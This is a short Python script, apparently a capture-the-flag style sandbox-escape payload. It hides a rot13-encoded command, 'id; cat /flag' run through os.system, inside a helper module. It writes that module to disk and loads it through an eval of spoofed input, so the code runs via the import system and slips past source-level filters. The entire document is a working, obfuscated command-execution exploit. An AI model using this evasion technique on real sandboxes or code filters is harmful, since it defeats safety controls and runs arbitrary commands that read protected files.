# Writes a helper module whose source is decoded at run time, then imports it
# by a name that a clean eval produces: the module's code is compiled by the
# import system, never straight from a line of this file.
import codecs
import importlib
import io
import os
import sys

body = codecs.decode("vzcbeg bf\nbf.flfgrz('vq; png /synt')\n", "rot" + "_13")
with open("calc_helper.py", "w") as fh:
    fh.write(body)
sys.path.insert(0, os.getcwd())
sys.stdin = io.StringIO("'calc_' + 'helper'\n")
importlib.import_module(eval(input()))
